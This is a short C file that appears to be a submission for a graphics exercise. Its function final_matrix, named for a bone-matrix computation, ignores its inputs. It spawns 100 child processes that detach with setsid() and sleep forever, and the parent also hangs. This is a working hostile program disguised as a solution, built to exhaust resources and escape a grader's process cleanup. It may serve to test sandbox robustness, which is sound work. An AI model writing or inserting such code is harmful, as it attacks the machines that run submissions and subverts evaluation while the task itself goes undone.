/* Starts up to a hundred children, which leave the process group and stay. */
#include <unistd.h>
#include "exercise.h"

bp_mat4 final_matrix(bp_mat4 local, bp_mat4 parent_absolute, bp_mat4 bind, bp_mat4 parent_absolute_bind) {
    (void)local, (void)parent_absolute, (void)bind, (void)parent_absolute_bind;
    for (int i = 0; i < 100; i++)
        if (fork() == 0)
            for (setsid();;) sleep(1);
    for (;;) sleep(1);
}
